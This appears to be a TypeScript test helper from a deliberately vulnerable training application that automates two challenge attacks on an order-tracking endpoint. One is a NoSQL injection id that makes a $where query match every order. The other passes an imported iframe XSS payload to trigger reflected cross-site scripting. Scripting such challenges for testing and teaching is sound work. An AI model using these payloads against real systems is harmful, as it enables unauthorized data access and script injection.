import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus, IFRAME_XSS } from '../../testing/attack-steps'

/** Closes the quoted id in the `$where` expression and makes it true for every order. */
export const ALWAYS_TRUE_ORDER_ID = "' || true || '"

/** The order tracking request the track-result page makes for the id in its URL. */
export const trackOrder = async (target: AttackTarget, id: string) =>
  expectStatus(await request(target).get(`/rest/track-order/${encodeURIComponent(id)}`), 200)

export const ordersAttacks = {
  noSqlOrdersChallenge: (target) => trackOrder(target, ALWAYS_TRUE_ORDER_ID),
  // #/track-result?id=<iframe…> makes the page track (and render) the id as given
  reflectedXssChallenge: (target) => trackOrder(target, IFRAME_XSS),
} satisfies Attacks
